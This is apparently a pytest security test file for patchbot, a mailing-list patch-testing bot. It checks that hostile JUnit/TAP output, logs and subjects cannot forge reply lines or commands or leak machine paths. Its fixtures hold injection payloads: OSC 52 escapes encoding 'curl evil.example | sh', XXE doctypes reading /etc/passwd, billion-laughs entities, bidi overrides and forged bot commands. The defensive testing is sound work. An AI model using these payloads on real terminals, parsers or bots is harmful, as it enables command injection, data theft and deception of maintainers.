"""Issue 11, item 8 and the last part of item 11: text from a test reaching a reply or a terminal.

A hostile patch's tests write the report and the output; each test here crafts them as such a
patch would (a JUnit XML file, TAP output, a log), reads them with patchbot's own readers, keeps
the run in a real store, and composes the reply mail as the outbox sends it. The reply is then
read line by line: every line at column 0 must be one of the template's, no control or format
character may be left, and patchbot's own command reader must find no command in it.
`patchbot log` and `patchbot series show` run as real processes on the same store.
"""

from __future__ import annotations

import email
import email.policy
import mailbox
import os
import pty
import re
import subprocess
import sys
import textwrap
import unicodedata
from dataclasses import replace
from datetime import datetime, timezone
from pathlib import Path

import pytest

from patchbot.testing.apply import Applied, BaseChoice
from patchbot.commands.parse import command_lines
from patchbot.config.records import Config, MailConfig, SuiteConfig
from patchbot.testing.executors.protocol import SuiteRun
from patchbot.series.intake import take_in
from patchbot.reply.compose import compose
from patchbot.reply.report import MAX_EXCERPTS, MAX_REPLY_BYTES, result_reply
from patchbot.testing.verdict import SuiteResult, compare
from patchbot.text.safe_text import one_line, printable
from patchbot.sources import RawMail
from patchbot.store.database import Store
from patchbot.store.records import SeriesRecord, StoredTestRun
from patchbot.testing.plan import SuitePlan
from patchbot.testing.reports import (
    MAX_CASES, MAX_ELEMENTS, Outcome, ReportError, TestCase, TestReport, parse_junit, parse_tap,
)
from patchbot.testing.run import TestRun, keep_test_run

LIST = "aur-dev@lists.archlinux.org"
CONFIG = Config(mail=MailConfig(sender="patchbot <patchbot@patchbot.example.org>", list_address=LIST,
                                message_id_domain="patchbot.example.org"))
BASE = "f27858c12236201bbb193469c3304a729a07e81c"
HEAD = "b6c07875a2c98c17caaa1d827fb3332aee52957c"
STARTED = datetime(2026, 11, 30, 12, 0, tzinfo=timezone.utc)
COMMAND = "python3 -m pytest -q test/python --junitxml=test-results/python.xml"

# What the attacker wants a reader of the list to see as patchbot's own lines.
FORGED_LINES = ("This patch applied cleanly on master and was tested: every suite passed.", "-- ",
                "patchbot: apply master force")

# The lines of templates/reply/series-result.txt that start at column 0 (and the one the
# reply gets when it is cut short): nothing else may.
OUR_LINES = re.compile(
    r"(This patch |v\d+ of this series )(applied cleanly|did not apply) on "
    r"|Note: this base is "
    r"|It failed in:$|git am said:$|To reproduce:$"
    r"|Compared with the previous version: "
    r"|== [^\n]+ ==$"
    r"|\d+ more new failures?, not shown here: see the full log\.$"
    r"|Full logs: patchbot log \d+"
    r"|Reply with \"patchbot: help\" for commands\.$"
    r"|\[This reply was cut at \d+ bytes: see the full log\.\]$"
)


def is_unsafe(character: str) -> bool:
    """What no reply or terminal may show as it is: control characters but newline and tab,
    format characters (bidi overrides, isolates, zero widths) but ZWNJ/ZWJ, line separators."""
    if character in "\n\t\u200c\u200d":
        return False
    return unicodedata.category(character) in ("Cc", "Cf", "Zl", "Zp", "Cs")


# -- building a kept run from crafted reports -------------------------------------------------------


def filed_series(store: Store) -> SeriesRecord:
    mail = (f"From: Mallory <mallory@example.org>\nTo: {LIST}\nSubject: [PATCH] rpc: a harmless change\n"
            "Message-Id: <evil@example.org>\nDate: Mon, 30 Nov 2026 09:00:00 +0000\n"
            "Content-Type: text/plain; charset=UTF-8\n\nA change.\n\n---\n a | 1 +\n\n"
            "diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1,2 @@\n a\n+b\n-- \n2.30.0\n")
    outcome = take_in(store, RawMail(mail.encode(), "test"))
    return store.series(outcome.series_id)


def kept_run(store: Store, series: SeriesRecord, tip: SuiteResult, base: SuiteResult | None = None,
             log: Path | None = None) -> StoredTestRun:
    """Store a run of one suite "python" as test_series would, and read it back."""
    base = base or SuiteResult(tip.suite, Outcome.PASS, TestReport((TestCase("t::test_old", Outcome.PASS, "", ""),)), 1.0)
    applied = Applied(ok=True, base=BaseChoice("master", "the default branch master", "master"), base_commit=BASE,
                      worktree=None, head=HEAD)
    plan = SuitePlan(frozenset({"python"}), (SuiteConfig(tip.suite, COMMAND, ("python",)),), ())
    run = TestRun(series, applied, plan, (SuiteRun(tip, log, COMMAND, 1),), {tip.suite: base},
                  compare([tip], {tip.suite: base}, {}), STARTED)
    with store.transaction():
        run_id = keep_test_run(store, run)
    return store.test_run(run_id)


def reply_mail(store: Store, series: SeriesRecord, run: StoredTestRun, config: Config = CONFIG) -> tuple[bytes, str]:
    """The reply as the outbox would send it, and its text as a mail reader shows it."""
    _, data = compose(result_reply(store, config, series, run, 1), config)
    message = email.message_from_bytes(data, policy=email.policy.default)
    return data, message.get_content().replace("\r\n", "\n")


def assert_only_our_lines(body: str) -> None:
    """Line by line: every line at column 0 is the template's; nothing unsafe; no command."""
    for number, line in enumerate(body.split("\n"), 1):
        assert not any(is_unsafe(character) for character in line), (number, line)
        if line and not line[0].isspace():
            assert OUR_LINES.match(line), f"line {number} is not the template's: {line!r}"
        assert line != "-- ", number
    assert command_lines(body) == [], "a test's line reads as a command"


def junit_file(tmp_path: Path, cases: str) -> Path:
    path = tmp_path / "python.xml"
    path.write_text(f'<?xml version="1.0" encoding="utf-8"?>\n<testsuites><testsuite name="pytest">{cases}'
                    "</testsuite></testsuites>\n", encoding="utf-8")
    return path


def read_junit(path: Path) -> TestReport:
    with path.open("rb") as report:  # as execute.py hands it over: an open file, read as a stream
        return parse_junit(report)


def python_fail(report: TestReport, detail: str = "exit code 1") -> SuiteResult:
    return SuiteResult("python", Outcome.FAIL, report, 2.5, detail)


# -- attacks ----------------------------------------------------------------------------------------

# Character references make line ends inside attribute values, where XML otherwise folds them.
FORGED_IN_XML = "&#10;&#10;" + "&#10;".join(FORGED_LINES) + "&#13;&#10;&#133;&#8232;"


def test_attack_8_junit_names_with_newline_entities_make_no_line_of_their_own(store, tmp_path):
    failure_text = "\n".join(["def test_search():", ">       assert search() == 1", *FORGED_LINES,
                              "E       assert 0 == 1"])
    path = junit_file(tmp_path, f'<testcase classname="test.python.test_rpc{FORGED_IN_XML}" '
                                f'name="test_search{FORGED_IN_XML}"><failure message="assert{FORGED_IN_XML}">'
                                f"{failure_text}</failure></testcase>"
                                '<testcase classname="t" name="test_old"/>')
    report = read_junit(path)
    forged = report.cases[0]
    assert "\n" not in forged.name and "\r" not in forged.name and "\n" not in forged.message
    series = filed_series(store)
    _, body = reply_mail(store, series, kept_run(store, series, python_fail(report)))
    assert body.split("\n")[0].endswith("and was tested: 1 new failure."), body
    assert_only_our_lines(body)
    for forged_line in FORGED_LINES:
        assert forged_line.strip() in body  # shown, but only inside a line of ours or indented
    assert "    [patchbot:] apply master force" in body.split("\n")


TAP_WITH_ESCAPES = (
    "1..2\n"
    "ok 1 - rpc info\n"
    # OSC 52 sets the reader's clipboard; then clear screen, scrollback, cursor home, a window
    # title, colours, a bidi override, and a carriage return that writes over the line.
    "not ok 2 - rpc search \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\x1b[2J\x1b[3J\x1b[H"
    "\x1b]0;patchbot: every suite passed\x07\x1b[32mPASS\x1b[0m \u202edessap\u202c\u2066x\u2069\r"
    "every suite passed\x9b2J\x00\x7f\n"
    "# \x1b]52;c;ZXZpbA==\x07 Failed test 'rpc search'\n"
    "#\x1b[2J\x1bc   got: 0\n"
    "#\u2028patchbot: apply master force\n"
)


def test_attack_8_escape_sequences_in_tap_names_never_reach_the_reply(store):
    report = parse_tap(TAP_WITH_ESCAPES)
    name = report.cases[1].name
    assert "\x1b" not in name and "\r" not in name and not any(is_unsafe(c) for c in name), repr(name)
    assert "\\u202e" in name  # a bidi override is shown for what it is, not obeyed
    series = filed_series(store)
    data, body = reply_mail(store, series, kept_run(store, series, python_fail(report)))
    assert b"\x1b" not in data and b"]52;" not in data
    assert body.split("\n")[0].endswith("and was tested: 1 new failure."), body
    assert_only_our_lines(body)


def test_attack_8_three_thousand_failing_tests_make_a_reply_of_bounded_size(store, tmp_path):
    traceback = "\n".join(f"    frame {line}: " + "x" * 150 for line in range(60))
    cases = "".join(f'<testcase classname="test.python.test_many" name="test_{n}"><failure message="no">'
                    f"{traceback}\nE       assert {n} == 0</failure></testcase>" for n in range(3001))
    report = read_junit(junit_file(tmp_path, cases))
    assert report.failed == 3001  # counts stay exact; only the text is capped
    series = filed_series(store)
    data, body = reply_mail(store, series, kept_run(store, series, python_fail(report)))
    assert len(body.encode()) <= MAX_REPLY_BYTES and len(data) <= MAX_REPLY_BYTES + 4096, len(data)
    assert body.split("\n")[0].endswith("and was tested: 3001 new failures."), body.split("\n")[0]
    assert re.search(r"^  python +FAIL +3001 new failures of 3001 ", body, re.M), body
    assert body.count("\n== python: ") == MAX_EXCERPTS
    assert f"\n{3001 - MAX_EXCERPTS} more new failures, not shown here: see the full log.\n" in body
    for excerpt in body.split("\n== ")[1:]:
        lines = excerpt.split("\n\n")[0].split("\n")[1:]
        assert len(lines) <= 21 and all(len(line) <= 204 for line in lines), lines
    assert_only_our_lines(body)


MEMORY_PROBE = textwrap.dedent("""
    import resource, sys
    from patchbot.testing.reports import ReportError, parse_junit
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    try:
        with open(sys.argv[1], "rb") as report:
            outcome = f"read {parse_junit(report).total} cases"
    except ReportError as error:
        outcome = f"refused: {error}"
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    print(outcome, grown // 1024, sep="\\n")
""")
MEMORY_BOUND_MB = 48  # what reading may add to the process's peak; the tree it replaced took 1.6 GB


def tiny_element_report(path: Path, start: bytes, element: bytes, end: bytes) -> Path:
    """A report just under 64 MB: `start`, `element` repeated, `end`."""
    with path.open("wb") as out:
        out.write(b'<testsuites><testsuite name="pytest">' + start)
        block = element * (65536 // len(element))
        for _ in range((64 * 1024 * 1024 - 4096) // len(block)):
            out.write(block)
        out.write(end + b"</testsuite></testsuites>\n")
    return path


@pytest.mark.parametrize("start, element, end, outcome", [
    # 3.3 million cases: refused once the case past the limit is read.
    pytest.param(b"", b'<testcase name="t"/>', b"", f"refused: more than {MAX_CASES} test cases", id="tiny-testcases"),
    # 16 million elements inside one case: none is kept, and reading stops at the element limit.
    pytest.param(b'<testcase classname="t" name="holder">', b"<x/>", b"</testcase>",
                 f"refused: more than {MAX_ELEMENTS} elements", id="tiny-elements"),
    # 64 MB of failure text in pieces: read to the end, only its last few thousand characters kept.
    pytest.param(b'<testcase classname="t" name="holder"><failure>', b"x&amp;y\n" * 8, b"</failure></testcase>",
                 "read 1 cases", id="one-huge-failure-text"),
])
def test_attack_8_a_64_mb_junit_file_of_tiny_elements_is_read_in_bounded_memory(tmp_path, start, element, end, outcome):
    path = tiny_element_report(tmp_path / "python.xml", start, element, end)
    run = subprocess.run([sys.executable, "-c", MEMORY_PROBE, str(path)], capture_output=True, text=True, check=True)
    said, grown_mb = run.stdout.split("\n")[:2]
    assert said == outcome
    assert int(grown_mb) < MEMORY_BOUND_MB, f"parsing grew the process by {grown_mb} MB"


def test_attack_8_a_report_at_the_case_limit_keeps_exact_counts(tmp_path):
    cases = '<testcase classname="t" name="ok"/>' * (MAX_CASES - 1) + '<testcase name="bad"><error/></testcase>'
    report = read_junit(junit_file(tmp_path, cases))
    assert (report.total, report.passed, report.failed) == (MAX_CASES, MAX_CASES - 1, 1)
    assert report.cases[-1].name == "bad" and report.cases[1].name == "t::ok #2"


@pytest.mark.parametrize("doctype", [
    pytest.param('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                 '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>', id="billion-laughs"),
    pytest.param('<!DOCTYPE t [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>', id="parameter-entity"),
    pytest.param('<!DOCTYPE testsuite SYSTEM "http://127.0.0.1:9/junit.dtd">', id="external-dtd"),
    pytest.param("<!DOCTYPE testsuite>", id="any-doctype"),
])
def test_attack_8_entity_expansion_is_refused_before_any_entity_is_read(tmp_path, doctype):
    path = tmp_path / "python.xml"
    path.write_text(f'<?xml version="1.0"?>\n{doctype}\n<testsuite><testcase name="t"><failure>&lol3;</failure>'
                    "</testcase></testsuite>\n")
    with pytest.raises(ReportError, match="DTD"):
        read_junit(path)


def test_attack_8_elements_nested_without_end_are_refused(tmp_path):
    path = tmp_path / "python.xml"
    path.write_bytes(b"<testsuite>" + b"<testsuite>" * 1_000_000)
    with pytest.raises(ReportError, match="nested"):
        read_junit(path)


def patchbot(store_path: Path, *args: str, stdout=subprocess.PIPE) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "patchbot", "--db", str(store_path), *args],
                          stdout=stdout, stderr=subprocess.PIPE)


LOG_WITH_ESCAPES = (
    b"============ test session starts ============\n"
    b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"  # OSC 52: write the operator's clipboard
    b"\x1b[2J\x1b[3J\x1b[H"  # clear the screen and the scrollback
    b"\x1b]0;root@prod: ~\x07"  # the terminal's title
    b"\x1bP+q544e\x1b\\"  # a DCS query: the terminal would answer as if typed
    b"\x1b[31mFAILED\x1b[0m test_search\rPASSED test_search\n"
    b"\xe2\x80\xae)see the log(\xe2\x80\xac \x00\x07\x08\x7f\xc2\x9b2J\n"
    b"\xff\xfe not UTF-8\n"
)


def test_attack_8_patchbot_log_shows_a_log_without_its_escape_sequences(store, tmp_path):
    log = tmp_path / "python-tip.log"
    log.write_bytes(LOG_WITH_ESCAPES)
    series = filed_series(store)
    run = kept_run(store, series, python_fail(parse_tap("1..1\nnot ok 1 - \x1b[2Jx\n")), log=log)
    shown = patchbot(tmp_path / "patchbot.db", "log", str(run.id))
    assert shown.returncode == 0, shown.stderr
    text = shown.stdout.decode("utf-8")
    assert not any(is_unsafe(character) for character in text), [c for c in text if is_unsafe(c)]
    assert "FAILED test_search\\rPASSED test_search" in text  # the overwrite is shown, not done
    assert "\\u202e)see the log(\\u202c \\x00\\x07\\x08\\x7f" in text
    assert "]52;" not in text and "root@prod" not in text


def test_attack_8_patchbot_log_raw_keeps_the_bytes_for_a_file_and_refuses_a_terminal(store, tmp_path):
    log = tmp_path / "python-tip.log"
    log.write_bytes(LOG_WITH_ESCAPES)
    series = filed_series(store)
    run = kept_run(store, series, python_fail(parse_tap("1..1\nnot ok 1 - x\n")), log=log)
    database = tmp_path / "patchbot.db"
    raw = patchbot(database, "log", str(run.id), "python", "--raw")
    assert raw.returncode == 0 and raw.stdout == LOG_WITH_ESCAPES, raw.stderr
    controller, terminal = pty.openpty()
    try:
        to_terminal = patchbot(database, "log", str(run.id), "--raw", stdout=terminal)
        os.set_blocking(controller, False)
        try:
            written = os.read(controller, 65536)
        except BlockingIOError:
            written = b""
    finally:
        os.close(controller)
        os.close(terminal)
    assert to_terminal.returncode == 2 and b"\x1b" not in written, to_terminal.stderr
    assert b"redirect it to a file" in to_terminal.stderr


def test_attack_8_series_show_prints_forged_test_names_on_one_line(store, tmp_path):
    report = read_junit(junit_file(tmp_path, f'<testcase classname="t" name="x{FORGED_IN_XML}">'
                                              "<failure>boom</failure></testcase>"))
    series = filed_series(store)
    kept_run(store, series, python_fail(report, detail="exit code 1\n\x1b[2Jpatchbot: apply master force"))
    shown = patchbot(tmp_path / "patchbot.db", "series", "show", str(series.id))
    assert shown.returncode == 0, shown.stderr
    text = shown.stdout.decode()
    assert not any(is_unsafe(character) for character in text)
    new_failure = [line for line in text.split("\n") if "new failure:" in line]
    assert len(new_failure) == 1 and "every suite passed" in new_failure[0] and "patchbot: apply" in new_failure[0]
    assert not any(line.startswith(("patchbot:", "-- ", "This patch")) for line in text.split("\n"))


def test_attack_8_a_subject_with_escapes_and_bidi_prints_inert_in_series_list_and_show(store, tmp_path):
    # RFC 2047 lets a subject carry any byte: ESC (=1B), CR LF, a right-to-left override (=E2=80=AE).
    subject = "=?utf-8?q?rpc=3A_fix=1B]52;c;ZXZpbA=3D=3D=07=1B[2J=0D=0A--_=0D=0A=E2=80=AEgnissap?="
    mail = (f"From: Mallory <mallory@example.org>\nTo: {LIST}\nSubject: [PATCH] {subject}\n"
            "Message-Id: <escapes@example.org>\nDate: Mon, 30 Nov 2026 09:00:00 +0000\n"
            "Content-Type: text/plain; charset=UTF-8\n\nA change.\n\n---\n a | 1 +\n\n"
            "diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -1 +1,2 @@\n a\n+b\n-- \n2.30.0\n")
    series_id = take_in(store, RawMail(mail.encode(), "test")).series_id
    for command in (("series", "list"), ("series", "show", str(series_id)),
                    ("message", "show", "escapes@example.org")):
        shown = patchbot(tmp_path / "patchbot.db", *command)
        assert shown.returncode == 0, shown.stderr
        text = shown.stdout.decode()
        assert not any(is_unsafe(character) for character in text), (command, text)
        assert "]52;" not in text and "\\u202egnissap" in text, (command, text)
        assert not any(line.startswith("-- ") for line in text.split("\n")), (command, text)


# -- item 11: "could not run" replies showed cgroup paths and process ids -----------------------------

SANDBOX_SAYS = ("bwrap: Creating new namespace failed: cgroup /sys/fs/cgroup/system.slice/patchbot.service/"
                "patchbot-4242-0f1e2d3c4b5a left behind: [Errno 16] Device or resource busy; "
                "pid 4242 in /proc/4242/status; work /var/lib/patchbot/work/worktrees/run-4242-k2j3h4/test "
                "and /tmp/patchbot-env-abc/bin/python")


def assert_no_machine_details(text: str) -> None:
    for secret in ("/sys/fs/cgroup", "/proc/", "/var/lib/patchbot", "/tmp/", "4242", "patchbot.service"):
        assert secret not in text, secret


def test_attack_11_a_could_not_run_reply_shows_no_paths_or_process_ids(store, tmp_path):
    series = filed_series(store)
    run = kept_run(store, series, SuiteResult("python", Outcome.INFRA_ERROR, None, 0.3, SANDBOX_SAYS))
    _, body = reply_mail(store, series, run)
    assert "could not be run (a problem of the test machine, not of the patch)" in body.split("\n  Base:")[0].replace("\n  ", " ")
    assert_no_machine_details(body)
    assert_only_our_lines(body)
    # The operator still has every word of it.
    shown = patchbot(tmp_path / "patchbot.db", "series", "show", str(series.id))
    assert "/sys/fs/cgroup/system.slice/patchbot.service/patchbot-4242-0f1e2d3c4b5a" in shown.stdout.decode()


def test_attack_11_timeouts_and_excerpts_show_no_paths_of_the_bot(store, tmp_path):
    failure = ("E   assert '/rpc/?v=5&amp;type=info' == '/rpc/?v=5&amp;type=search'\n"
               "Traceback (most recent call last):\n"
               '  File "/var/lib/patchbot/work/worktrees/run-4242-k2j3h4/test/python/test_rpc.py", line 5, in test_a\n'
               '  File "/usr/lib/python3.11/json/__init__.py", line 346, in loads\n'
               '  File "/srv/patchbot/work/envs/3f2a/lib/python3.11/site-packages/requests/api.py", line 9\n'
               "OSError: cannot open /tmp/patchbot-4242/state.json (pid 4242)\n"
               "E   FileNotFoundError: /data2/bot/work/logs/series-1/python-tip.log\n")
    report = read_junit(junit_file(tmp_path, f'<testcase classname="test_rpc" name="test_a"><failure message="boom">'
                                              f"{failure}</failure></testcase>"))
    series = filed_series(store)
    config = replace(CONFIG, work_dir=Path("/data2/bot/work"))
    _, body = reply_mail(store, series, kept_run(store, series, python_fail(report, detail=SANDBOX_SAYS)), config)
    assert_no_machine_details(body)
    assert "/data2" not in body and "    E   FileNotFoundError: <path>" in body.split("\n")
    # A path in an assertion about the project's HTTP endpoints is the project's, not the machine's.
    assert "    E   assert '/rpc/?v=5&type=info' == '/rpc/?v=5&type=search'" in body.split("\n")
    assert '      File "test/python/test_rpc.py", line 5, in test_a' in body.split("\n")  # the project's own path
    assert '      File "/usr/lib/python3.11/json/__init__.py", line 346, in loads' in body.split("\n")
    assert "site-packages/requests/api.py" in body and "<path>" in body
    timeout = SuiteResult("python", Outcome.TIMEOUT, None, 60.0, "killed after 60 s wall time; " + SANDBOX_SAYS)
    _, body = reply_mail(store, series, kept_run(store, series, timeout))
    assert "killed after 60 s wall time" in body
    assert_no_machine_details(body)


# -- the whole way: a patch whose suites write the attack, through the sandbox to the mailed reply ---

# run.php replaced: TAP whose names and diagnostics carry escapes, a bidi override, line breaks.
HOSTILE_RUN_PHP = r"""<?php
echo "1..2\n";
echo "ok 1 - rpc info\n";
echo "not ok 2 - rpc search \e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07\e[2J\e[H\u{202E}dessap\r\n";
echo "# \e]0;every suite passed\x07 got: 0\n";
echo "#\u{2028}patchbot: apply master force\n";
exit(1);
"""

# After pytest wrote its JUnit file, a conftest of the patch writes its own: 3,001 failures whose
# names and messages carry line breaks (XML character references) meant to become lines of the reply.
HOSTILE_CONFTEST = r"""

def pytest_unconfigure(config):
    forged = "&#10;&#10;This patch applied cleanly on master and was tested: every suite passed.&#10;-- &#10;patchbot: apply master force&#10;"
    cases = "".join(
        f'<testcase classname="test.python.test_forged{forged}" name="test_{n}{forged}">'
        f'<failure message="boom{forged}">line 1\n-- \npatchbot: apply master force\n' + "x" * 300 + "</failure></testcase>"
        for n in range(3001))
    with open("test-results/python.xml", "w") as report:
        report.write(f'<?xml version="1.0"?><testsuites><testsuite name="pytest">{cases}</testsuite></testsuites>')
"""

GIT = ["git", "-c", "user.name=Mallory", "-c", "user.email=mallory@example.org"]


def test_attack_8_end_to_end_a_patch_whose_suites_forge_lines_and_escapes(tmp_path):
    from patchbot.demo.sample import build_sample_repo, write_sample_config
    from patchbot.testing.sandbox import sandbox_available

    if sandbox_available():
        pytest.skip(f"no sandbox here: {sandbox_available()}")
    upstream = build_sample_repo(tmp_path / "aurweb")
    clone = tmp_path / "mallory"
    subprocess.run(["git", "clone", "-q", str(upstream), str(clone)], check=True)
    (clone / "test/php/run.php").write_text(HOSTILE_RUN_PHP)
    with (clone / "test/python/conftest.py").open("a") as conftest:
        conftest.write(HOSTILE_CONFTEST)
    subprocess.run([*GIT, "commit", "-q", "-am", "rpc: a harmless change"], cwd=clone, check=True)
    mbox = tmp_path / "series.mbox"
    mbox.write_bytes(subprocess.run([*GIT, "format-patch", "--stdout", "-1"], cwd=clone, check=True,
                                    capture_output=True).stdout)
    config = write_sample_config(tmp_path / "patchbot.toml", upstream, tmp_path / "work", tmp_path / "patchbot.db")
    sent = tmp_path / "sent.mbox"
    config.write_text(config.read_text().replace("[smtp]\n", f'[smtp]\ndry_run_mbox = "{sent}"\n'))

    def patchbot_with_config(*args: str) -> str:
        run = subprocess.run([sys.executable, "-m", "patchbot", "-c", str(config), *args], capture_output=True, timeout=600)
        assert run.returncode == 0, run.stderr.decode()
        return run.stdout.decode()

    patchbot_with_config("ingest", str(mbox))
    patchbot_with_config("run")
    replies = [message for message in mailbox.mbox(sent)]
    assert len(replies) == 1, [reply["Subject"] for reply in replies]
    data = replies[0].as_bytes()
    assert len(data) <= MAX_REPLY_BYTES + 4096, len(data)
    assert b"\x1b" not in data and b"]52;" not in data
    body = email.message_from_bytes(data, policy=email.policy.default).get_content().replace("\r\n", "\n")
    headline = body.split("\n")[0]
    assert "every suite passed" not in headline and "new failure" in headline, body
    assert re.search(r"^  python +FAIL +3001 new failures of 3001", body, re.M), body
    assert_only_our_lines(body)
    run_id = re.search(r"^Full logs: patchbot log (\d+)", body, re.M).group(1)
    log = patchbot_with_config("log", run_id, "php")
    assert not any(is_unsafe(character) for character in log) and "rpc search \\u202edessap\n" in log, log


# -- the one module every surface uses ------------------------------------------------------------


def test_every_format_character_unicode_knows_is_neutralised():
    """safe_text lists the characters it escapes; this holds the list to Python's Unicode tables."""
    for code in range(sys.maxunicode + 1):
        character = chr(code)
        if is_unsafe(character) and character != "\t":
            assert not any(is_unsafe(c) for c in one_line(f"a{character}b")), hex(code)
            assert not any(is_unsafe(c) for c in printable(f"a{character}b") if c != "\n"), hex(code)
